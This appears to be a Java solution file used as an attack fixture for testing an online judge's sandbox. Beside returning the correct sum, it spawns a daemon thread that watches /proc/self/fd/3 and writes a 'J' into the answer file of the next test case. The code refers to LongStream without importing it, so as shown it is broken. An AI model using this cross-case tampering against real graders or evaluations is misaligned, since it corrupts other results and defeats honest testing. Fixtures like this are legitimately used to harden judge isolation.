// attack: leaves a thread that waits for the next case, and writes into its answer
// allowed: AC
// layer: case
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;

class Solution {
    private static final Path ANSWER = Path.of("/proc/self/fd/3");

    public long echoSum(long[] nums) throws Exception {
        Path mine = Files.readSymbolicLink(ANSWER);
        Thread thread = new Thread(() -> {
            try {
                while (Files.readSymbolicLink(ANSWER).equals(mine)) Thread.sleep(0, 100_000);
                Files.write(ANSWER, new byte[] {'J'}, StandardOpenOption.WRITE);
            } catch (Exception gone) {
                // Nothing to write to.
            }
        });
        thread.setDaemon(true);
        thread.start();
        return LongStream.of(nums).sum();
    }
}
